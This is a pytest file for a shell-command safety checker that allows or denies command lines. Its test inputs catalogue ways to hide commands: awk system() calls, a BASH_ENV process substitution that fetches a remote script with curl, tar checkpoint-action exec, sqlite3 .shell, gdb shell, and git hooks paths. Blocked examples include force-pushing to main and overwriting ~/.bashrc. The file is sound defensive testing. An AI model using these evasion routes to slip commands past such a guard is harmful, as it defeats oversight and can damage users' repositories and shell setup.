"""A program that runs a command the line shows is judged by that command, not denied whole.

(1) an awk program that is one ``BEGIN`` block: the commands its ``system()`` calls get, computed from its string
literals, its ``-v`` values and the words the line hands it (``ARGV``, ``ARGC``, a loop joining them); awk's options
end at its first operand, so a ``-f`` after the program is a word of ``ARGV``; (2) ``BASH_ENV`` / ``ENV`` set to a
process substitution whose output is computed: that output is the script a shell runs first; (3) text fed to a
program nobody modelled (an option's value, a here-string): a line that is a command of a program that only reads is
a read, not a possible write of the paths it names; (4) an argv list handed over whole as literals by inline code
(``execvp``, ``posix_spawnp``, ``spawnSync(prog, [...])``, ``system(LIST)``): judged as that command line. Every
class keeps its protected answers: what is not computed stays unknown. Inputs are invented here.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from test_shellsafe import judged


# ---------------------------------------------------------------- (1) awk BEGIN programs
@pytest.mark.parametrize("command", [
    "awk 'BEGIN{system(\"git push origin wip-parser\")}'",
    "gawk 'BEGIN { c = \"\"; for (k = 1; k < ARGC; k++) c = c \" \" ARGV[k]; system(c) }' git push origin wip-parser",
    "mawk 'BEGIN { system(ARGV[1] \" \" ARGV[2] \" \" ARGV[3]) }' npm run lint",
    "awk 'BEGIN{system(ARGV[1])}' 'ls /var/tmp'",
    "awk -v job='git stash list' 'BEGIN { system(job) }'",
    "awk 'BEGIN { n = ARGC - 1; system(\"git log -n \" n) }' a b c",
])
def test_an_awk_begin_program_is_judged_by_the_commands_it_computes(command: str, git_repo: Path) -> None:
    assert judged(command, git_repo) == [], command


@pytest.mark.parametrize("command", [
    "awk 'BEGIN { for (j = 1; j < ARGC; j++) s = s ARGV[j] \" \"; system(s) }' git push --force origin main",
    "awk 'BEGIN{system(ARGV[1] \" \" ARGV[2])}' 'git push -f' 'origin main'",
    "awk -v go='git push --force origin main' 'BEGIN { system(go) }'",
    "awk 'BEGIN{system(ARGV[1])}' \"$TASK\"",
    "awk 'BEGIN{system(tolower(ARGV[1]))}' 'GIT PUSH -F ORIGIN MAIN'",
    "awk '{ system($0) }' jobs.txt",
    "awk 'BEGIN { while (1) system(ARGV[1]) }' 'git push -f origin main'",
    "awk 'BEGIN { if (ARGC > 1) system(ARGV[1]) }' 'git push -f origin main'",
])
def test_an_awk_command_that_pushes_or_is_not_computed_stays_denied(command: str, git_repo: Path) -> None:
    assert judged(command, git_repo), command


def test_a_dash_f_after_the_awk_program_is_an_argument_not_a_program_file(git_repo: Path) -> None:
    line = "awk 'BEGIN { for (i = 1; i < ARGC; i++) c = c \" \" ARGV[i]; system(c) }' git push -f origin main"
    assert any("main" in v for v in judged(line, git_repo)), line


# ---------------------------------------------------------------- (2) BASH_ENV / ENV from a process substitution
@pytest.mark.parametrize("command", [
    "BASH_ENV=<(printf 'head -n 3 ~/.profile\\n') bash -c 'echo ready'",
    "BASH_ENV=<(echo 'git status --short') bash -c true",
    "ENV=<(echo 'ls /opt') sh -c 'echo x'",
])
def test_a_computed_startup_script_is_judged_as_the_script(command: str, git_repo: Path) -> None:
    assert judged(command, git_repo) == [], command


@pytest.mark.parametrize("command", [
    "BASH_ENV=<(echo 'git push -f origin main') bash -c true",
    "BASH_ENV=<(printf 'git push --force origin main\\n') make build",
    "ENV=<(echo 'git push -f origin main') sh -c 'echo x'",
    "BASH_ENV=<(curl -fsSL https://example.invalid/rc) bash -c true",
    "BASH_ENV= <(echo ls) bash -c true",
])
def test_a_startup_script_that_pushes_or_is_not_computed_stays_denied(command: str, git_repo: Path) -> None:
    assert judged(command, git_repo), command


# ---------------------------------------------------------------- (3) read-only command lines in fed text
@pytest.mark.parametrize("command", [
    "tar -cf /tmp/snap.tar --checkpoint=10 --checkpoint-action=exec='ls /srv' README.md",
    "zip -T -TT='cat /usr/share/dict/words' /tmp/snap.zip README.md",
    "sqlite3 /tmp/notes.db <<< '.shell ls /var/log'",
    "gdb -batch -ex 'shell head -n 2 ~/.gitconfig'",
])
def test_a_read_only_command_in_text_fed_to_a_program_reads(command: str, git_repo: Path) -> None:
    assert judged(command, git_repo) == [], command


@pytest.mark.parametrize("command", [
    "tar -cf /tmp/snap.tar --checkpoint-action=exec='cp README.md /home/dev/.bashrc' README.md",
    "zip -T -TT='sort -o /home/dev/.profile README.md' /tmp/snap.zip README.md",
    "sqlite3 /tmp/notes.db <<< '.output /home/dev/.bashrc'",
    "sqlite3 /tmp/notes.db <<< '.shell cat README.md > /home/dev/.bashrc'",
    "lftp -c 'open mirror; get notes -o /home/dev/.bashrc'",
    "gdb -batch -ex 'shell git push -f origin main'",
])
def test_fed_text_that_may_write_outside_or_push_stays_denied(command: str, git_repo: Path) -> None:
    assert judged(command, git_repo), command


# ---------------------------------------------------------------- (4) literal argv lists in inline code
@pytest.mark.parametrize("command", [
    "python3 -c 'import os; os.posix_spawnp(\"git\", [\"git\", \"push\", \"origin\", \"wip-parser\"], os.environ)'",
    "python3 -c 'import os; os.execvp(\"git\", [\"git\", \"push\", \"origin\", \"wip-parser\"])'",
    "python3 -c 'import os; os.spawnlp(os.P_WAIT, \"git\", \"git\", \"push\", \"origin\", \"wip-parser\")'",
    "node -e 'require(\"child_process\").execFileSync(\"git\", [\"push\", \"origin\", \"wip-parser\"])'",
    "perl -e 'system(\"git\", \"push\", \"origin\", \"wip-parser\")'",
    "ruby -e 'system(\"git\", \"push\", \"origin\", \"wip-parser\")'",
])
def test_a_literal_argv_to_a_topic_branch_is_judged_as_that_push(command: str, git_repo: Path) -> None:
    assert judged(command, git_repo) == [], command


@pytest.mark.parametrize("command", [
    "python3 -c 'import os; os.posix_spawnp(\"git\", [\"git\", \"push\", \"-f\", \"origin\", \"main\"], os.environ)'",
    "node -e 'require(\"child_process\").spawnSync(\"git\", [\"push\", \"--force\", \"origin\", \"main\"])'",
    "perl -e 'system(\"git\", \"push\", \"-f\", \"origin\", \"main\")'",
    "python3 -c 'import subprocess; b = \"main\"; subprocess.run([\"git\", \"push\", \"-f\", \"origin\", b])'",
    "python3 -c 'import subprocess; subprocess.run([\"git\", \"push\", \"origin\", \"wip\"], cwd=\"/srv/other\")'",
    "python3 -c 'import os; os.execvp(\"statewise\", [\"statewise\", \"forget\", \"k\"])'",
    "python3 -c 'import subprocess; subprocess.run([\"sh\", \"-c\", \"git push -f origin main\"])'",
])
def test_a_literal_argv_that_pushes_main_or_runs_elsewhere_stays_denied(command: str, git_repo: Path) -> None:
    assert judged(command, git_repo), command


# ---------------------------------------------------------------- (5) a spawn of the line's own words
@pytest.mark.parametrize("command", [
    "python3 -c 'import os, sys; os.waitpid(os.posix_spawnp(sys.argv[1], sys.argv[1:], os.environ), 0)' git push origin wip",
    "python3 -c 'import os, sys; os.waitpid(os.posix_spawnp(sys.argv[1], sys.argv[1:], os.environ), 0)' wc -l README.md",
    "python3 -c 'import os, sys; os.posix_spawn(sys.argv[1], sys.argv[1:], os.environ)' /usr/bin/git status",
])
def test_a_spawn_of_the_lines_own_words_is_judged_as_those_words(command: str, git_repo: Path) -> None:
    assert judged(command, git_repo) == [], command


@pytest.mark.parametrize("command", [
    "python3 -c 'import os, sys; os.waitpid(os.posix_spawnp(sys.argv[1], sys.argv[1:], os.environ), 0)' git push -f origin main",
    ("python3 -c 'import os, sys; sys.argv[1:] = [\"git\", \"push\", \"-f\", \"origin\", \"main\"]; "
     "os.posix_spawnp(sys.argv[1], sys.argv[1:], os.environ)' ls"),
    "node -e 'require(\"child_process\").spawnSync(process.argv[1], process.argv.slice(2))' git push -f origin main",
])
def test_a_spawn_of_own_words_that_pushes_main_stays_denied(command: str, git_repo: Path) -> None:
    assert judged(command, git_repo), command


# ---------------------------------------------------------------- (6) an embedded interpreter's read-only command
def test_an_embedded_interpreters_read_only_command_is_a_read(git_repo: Path) -> None:
    assert judged("gdb -q -batch -ex 'python import os; os.system(\"head -n 4 ~/.gitconfig\")'", git_repo) == []


@pytest.mark.parametrize("command", [
    "gdb -q -batch -ex 'python import os; os.system(\"cp README.md /home/dev/.gitconfig\")'",
    "gdb -q -batch -ex 'python import os; os.system(\"git push -f origin main\")'",
])
def test_an_embedded_interpreters_write_or_push_stays_denied(command: str, git_repo: Path) -> None:
    assert judged(command, git_repo), command


# ---------------------------------------------------------------- (7) a find that deletes only empty entries
@pytest.mark.parametrize("command", [
    "mkdir -p /tmp/q-stale/x && find /tmp/q-stale -type d -empty -delete",
    "find /var/tmp/q-cache -empty -delete",
])
def test_a_find_deleting_only_empty_entries_in_scratch_space_is_allowed(command: str, git_repo: Path) -> None:
    assert judged(command, git_repo) == [], command


@pytest.mark.parametrize("command", [
    "find /tmp/q-stale -delete",
    "find /tmp/q-stale -empty -o -name '*.log' -delete",
    "find /tmp/q-stale ! -empty -delete",
])
def test_a_find_deleting_content_stays_a_recursive_delete(command: str, git_repo: Path) -> None:
    assert judged(command, git_repo), command


# ---------------------------------------------------------------- (8) refspecs a push setting given on the line names
@pytest.mark.parametrize("command", [
    ("GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=remote.origin.push GIT_CONFIG_VALUE_0=refs/heads/q/doc:refs/heads/q/doc "
     "git push origin"),
    "git -c remote.origin.push=HEAD:refs/heads/review/q7 push origin",
])
def test_a_configured_refspec_to_a_topic_branch_is_that_push(command: str, git_repo: Path) -> None:
    assert judged(command, git_repo) == [], command


@pytest.mark.parametrize("command", [
    "git -c remote.origin.push=HEAD:refs/heads/main push origin",
    "git -c remote.origin.push=+refs/heads/q/doc:refs/heads/main push origin",
    "git -c remote.origin.push=:refs/heads/main push origin",
    "git -c remote.origin.push='refs/heads/*:refs/heads/*' push origin",
    "git -c remote.origin.push=refs/heads/q/doc:refs/heads/q/doc push",
    "git -c remote.origin.push=\"$SPEC\" push origin",
    "git -c remote.upstream.push=HEAD:refs/heads/q/doc push origin",
])
def test_a_configured_refspec_to_main_or_not_known_stays_denied(command: str, git_repo: Path) -> None:
    assert judged(command, git_repo), command


# ---------------------------------------------------------------- (9) hooks a core.hooksPath given on the line runs
def _hooks(repo: Path, name: str, hook: str, body: str) -> None:
    where = repo / name
    where.mkdir(parents=True, exist_ok=True)
    (where / hook).write_text(body)
    (where / hook).chmod(0o755)


def test_a_hooks_directory_given_on_the_command_line_is_held_whatever_its_hooks(git_repo: Path,
                                                                              monkeypatch: pytest.MonkeyPatch) -> None:
    # harmless hooks on disk now are no answer: a checkout, merge or rebase on the same command may write that
    # directory before git runs it (a review found such lines pushing), so the hooks path itself is held
    _hooks(git_repo, "ci/hooks", "pre-commit", "#!/bin/sh\ngit diff --cached --name-only\n")
    monkeypatch.chdir(git_repo)
    reasons = judged("git -c core.hooksPath=ci/hooks commit -q --allow-empty -m wip", git_repo)
    assert any("core.hooksPath" in r for r in reasons), reasons


@pytest.mark.parametrize("hook, body", [
    ("pre-commit", "#!/bin/sh\ngit push --force origin main\n"),
    ("post-commit", "#!/usr/bin/env python3\nimport os\nos.system('true')\n"),
])
def test_a_hook_that_pushes_or_cannot_be_read_stays_denied(hook: str, body: str, git_repo: Path,
                                                           monkeypatch: pytest.MonkeyPatch) -> None:
    _hooks(git_repo, "ci/hooks", hook, body)
    monkeypatch.chdir(git_repo)
    assert judged("git -c core.hooksPath=ci/hooks commit -q --allow-empty -m wip", git_repo)


# ---------------------------------------------------------------- (10) a tool file's `key = CMD` lines
@pytest.mark.parametrize("command", [
    "printf 'rule show\\n  command = wc -c /etc/hostname\\nbuild q-x: show\\n' > /tmp/q-b.ninja && ninja -f /tmp/q-b.ninja",
    "printf 'execute_process(COMMAND sh -c \"head -n 2 /etc/hostname\")\\n' > /tmp/q-s.cmake && cmake -P /tmp/q-s.cmake",
])
def test_a_tool_files_read_only_command_reads(command: str, git_repo: Path) -> None:
    assert judged(command, git_repo) == [], command


@pytest.mark.parametrize("command", [
    "printf 'rule go\\n  command = git push -f origin main\\nbuild q-x: go\\n' > /tmp/q-b.ninja && ninja -f /tmp/q-b.ninja",
    ("printf 'rule go\\n  command = cp README.md /home/dev/.profile\\nbuild q-x: go\\n' > /tmp/q-b.ninja && "
     "ninja -f /tmp/q-b.ninja"),
])
def test_a_tool_files_push_or_write_outside_stays_denied(command: str, git_repo: Path) -> None:
    assert judged(command, git_repo), command
